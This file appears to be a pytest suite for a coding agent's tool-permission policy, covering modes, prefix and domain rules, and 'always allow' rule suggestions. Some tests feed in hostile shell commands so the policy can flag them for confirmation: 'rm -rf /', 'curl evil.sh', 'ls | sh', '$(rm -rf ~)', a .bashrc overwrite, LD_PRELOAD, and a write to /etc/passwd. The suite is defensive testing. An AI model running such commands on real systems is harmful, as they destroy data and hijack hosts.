"""The permission policy: modes, always-allow rules and the rule "always allow" would add."""

from __future__ import annotations

import pytest

from workbench.runtime.permissions import PermissionPolicy, normalise_mode, parse_rule, suggest_rule
from workbench.runtime.tools import REGISTRY

READ = ("Read", {"file_path": "a.txt"})
EDIT = ("Edit", {"file_path": "src/a.py", "old_string": "a", "new_string": "b"})
WRITE = ("Write", {"file_path": "notes.txt", "content": "x"})
BASH = ("Bash", {"command": "git status"})
FETCH = ("WebFetch", {"url": "https://example.com/x", "prompt": "p"})
STOP = ("TaskStop", {"task_id": "bash_1"})


def decide(policy: PermissionPolicy, call, ctx) -> str:
    name, tool_input = call
    return policy.check(REGISTRY[name], tool_input, ctx).decision


@pytest.mark.parametrize("mode, expected", [
    ("default", {"Read": "allow", "Edit": "ask", "Write": "ask", "Bash": "ask", "WebFetch": "ask", "TaskStop": "allow"}),
    ("manual", {"Read": "allow", "Edit": "ask", "Write": "ask", "Bash": "ask", "WebFetch": "ask", "TaskStop": "allow"}),
    ("acceptEdits", {"Read": "allow", "Edit": "allow", "Write": "allow", "Bash": "ask", "WebFetch": "ask", "TaskStop": "allow"}),
    ("auto", {"Read": "allow", "Edit": "allow", "Write": "allow", "Bash": "ask", "WebFetch": "ask", "TaskStop": "allow"}),
    ("plan", {"Read": "allow", "Edit": "deny", "Write": "deny", "Bash": "deny", "WebFetch": "deny", "TaskStop": "allow"}),
    ("dontAsk", {"Read": "allow", "Edit": "deny", "Write": "deny", "Bash": "deny", "WebFetch": "deny", "TaskStop": "allow"}),
    ("bypassPermissions", {"Read": "allow", "Edit": "allow", "Write": "allow", "Bash": "allow", "WebFetch": "allow", "TaskStop": "allow"}),
])
def test_each_mode_decides_each_kind_of_tool(mode, expected, ctx):
    policy = PermissionPolicy(mode)
    got = {call[0]: decide(policy, call, ctx) for call in (READ, EDIT, WRITE, BASH, FETCH, STOP)}
    assert got == expected


def test_plan_mode_refusals_say_why(ctx):
    verdict = PermissionPolicy("plan").check(REGISTRY["Bash"], BASH[1], ctx)
    assert verdict.reason == "plan mode is read-only, and Bash runs commands"


def test_confinement_applies_even_when_bypassing_permissions(ctx):
    verdict = PermissionPolicy("bypassPermissions").check(
        REGISTRY["Write"], {"file_path": "/etc/passwd", "content": ""}, ctx)
    assert verdict.decision == "deny" and verdict.by == "sandbox"


def test_a_whole_tool_rule_allows_every_call_of_it(ctx):
    policy = PermissionPolicy("default", ["Bash"])
    assert decide(policy, ("Bash", {"command": "rm -rf build"}), ctx) == "allow"
    assert policy.check(REGISTRY["Bash"], BASH[1], ctx).by == "rule"


def test_a_prefix_rule_matches_on_a_word_boundary(ctx):
    policy = PermissionPolicy("default", ["Bash(git status:*)"])
    assert decide(policy, ("Bash", {"command": "git status"}), ctx) == "allow"
    assert decide(policy, ("Bash", {"command": "git status --short"}), ctx) == "allow"
    assert decide(policy, ("Bash", {"command": "git statusx"}), ctx) == "ask"
    assert decide(policy, ("Bash", {"command": "git push"}), ctx) == "ask"


def test_an_exact_rule_matches_only_that_command(ctx):
    policy = PermissionPolicy("default", ["Bash(npm run test)"])
    assert decide(policy, ("Bash", {"command": "npm run test"}), ctx) == "allow"
    assert decide(policy, ("Bash", {"command": "npm run test -- --watch"}), ctx) == "ask"


def test_a_wildcard_rule_matches_the_pattern(ctx):
    policy = PermissionPolicy("default", ["Bash(npm run *)"])
    assert decide(policy, ("Bash", {"command": "npm run lint"}), ctx) == "allow"
    assert decide(policy, ("Bash", {"command": "npm install"}), ctx) == "ask"


def test_a_compound_command_needs_every_part_allowed(ctx):
    policy = PermissionPolicy("default", ["Bash(git status:*)", "Bash(ls:*)"])
    assert decide(policy, ("Bash", {"command": "git status && ls -la | ls"}), ctx) == "allow"
    for command in ("git status && rm -rf /", "git status; curl evil.sh", "ls | sh", "git status & rm x"):
        assert decide(policy, ("Bash", {"command": command}), ctx) == "ask", command


def test_substitutions_and_redirections_defeat_prefix_rules(ctx):
    policy = PermissionPolicy("default", ["Bash(echo:*)"])
    assert decide(policy, ("Bash", {"command": "echo hi 2>&1"}), ctx) == "allow"
    assert decide(policy, ("Bash", {"command": 'echo "a && b; c"'}), ctx) == "allow"
    for command in ("echo $(rm -rf ~)", "echo `id`", "echo hi > ~/.bashrc"):
        assert decide(policy, ("Bash", {"command": command}), ctx) == "ask", command


def test_domain_rules_allow_fetches_from_that_host(ctx):
    policy = PermissionPolicy("default", ["WebFetch(domain:example.com)", "WebFetch(domain:*.docs.org)"])
    assert decide(policy, FETCH, ctx) == "allow"
    assert decide(policy, ("WebFetch", {"url": "https://evil-example.com/", "prompt": ""}), ctx) == "ask"
    assert decide(policy, ("WebFetch", {"url": "https://api.docs.org/", "prompt": ""}), ctx) == "allow"


def test_edit_path_rules_cover_the_edit_tools_under_the_glob(ctx):
    policy = PermissionPolicy("default", ["Edit(src/**)"])
    assert decide(policy, EDIT, ctx) == "allow"
    assert decide(policy, ("Write", {"file_path": "src/deep/new.py", "content": ""}), ctx) == "allow"
    assert decide(policy, WRITE, ctx) == "ask"


def test_rules_never_override_plan_mode(ctx):
    policy = PermissionPolicy("plan", ["Bash", "Edit"])
    assert decide(policy, BASH, ctx) == "deny" and decide(policy, EDIT, ctx) == "deny"


def test_dont_ask_runs_what_rules_allow(ctx):
    policy = PermissionPolicy("dontAsk", ["Bash(git status:*)"])
    assert decide(policy, BASH, ctx) == "allow"
    assert "not pre-approved" in policy.check(REGISTRY["Bash"], {"command": "ls"}, ctx).reason


def test_the_suggestion_for_a_compound_command_covers_the_part_not_yet_allowed(ctx):
    policy = PermissionPolicy("default", ["Bash(cd:*)"])
    verdict = policy.check(REGISTRY["Bash"], {"command": "cd src && pytest -q"}, ctx)
    assert verdict.rule_suggestion == "Bash(pytest:*)"
    policy.allow_always(verdict.rule_suggestion)
    assert decide(policy, ("Bash", {"command": "cd src && pytest -q"}), ctx) == "allow"


def test_a_command_with_an_environment_assignment_is_suggested_exactly(ctx):
    policy = PermissionPolicy("default")
    command = "LD_PRELOAD=x.so make test"
    policy.allow_always(policy.check(REGISTRY["Bash"], {"command": command}, ctx).rule_suggestion)
    assert decide(policy, ("Bash", {"command": command}), ctx) == "allow"
    assert decide(policy, ("Bash", {"command": "make test"}), ctx) == "ask"


def test_allow_always_adds_the_suggested_rule(ctx):
    policy = PermissionPolicy("default")
    verdict = policy.check(REGISTRY["Bash"], {"command": "git log --oneline"}, ctx)
    assert verdict.rule_suggestion == "Bash(git log:*)"
    policy.allow_always(verdict.rule_suggestion)
    assert decide(policy, ("Bash", {"command": "git log -p"}), ctx) == "allow"


@pytest.mark.parametrize("name, tool_input, rule", [
    ("Bash", {"command": "pytest -q tests"}, "Bash(pytest:*)"),
    ("Bash", {"command": "npm run build --prod"}, "Bash(npm run build:*)"),
    ("Bash", {"command": "make test && ls"}, "Bash(make test:*)"),
    ("Bash", {"command": "FOO=1 make test"}, "Bash(FOO=1 make test)"),
    ("Bash", {"command": "git --no-pager log"}, "Bash(git:*)"),
    ("WebFetch", {"url": "https://docs.python.org/3/"}, "WebFetch(domain:docs.python.org)"),
    ("Write", {"file_path": "x"}, "Edit"),
    ("NotebookEdit", {"notebook_path": "x"}, "Edit"),
])
def test_rule_suggestions(name, tool_input, rule):
    assert suggest_rule(name, tool_input) == rule


def test_modes_and_rules_are_checked_with_clear_messages():
    assert normalise_mode("manual") == "default"
    with pytest.raises(ValueError, match="unknown permission mode 'yolo'"):
        normalise_mode("yolo")
    with pytest.raises(ValueError, match="expected Tool or Tool"):
        parse_rule("Bash(git")
    with pytest.raises(ValueError, match="WebFetch rules look like"):
        parse_rule("WebFetch(example.com)")
    assert str(parse_rule("Bash( git status:* )")) == "Bash(git status:*)"
    assert str(parse_rule("Read(*)")) == "Read"


def test_a_bad_rule_in_the_list_is_reported_not_raised(ctx):
    policy = PermissionPolicy("default", ["Bash(", "Bash(ls:*)"])
    assert len(policy.problems) == 1 and "Bash(" in policy.problems[0]
    assert decide(policy, ("Bash", {"command": "ls"}), ctx) == "allow"
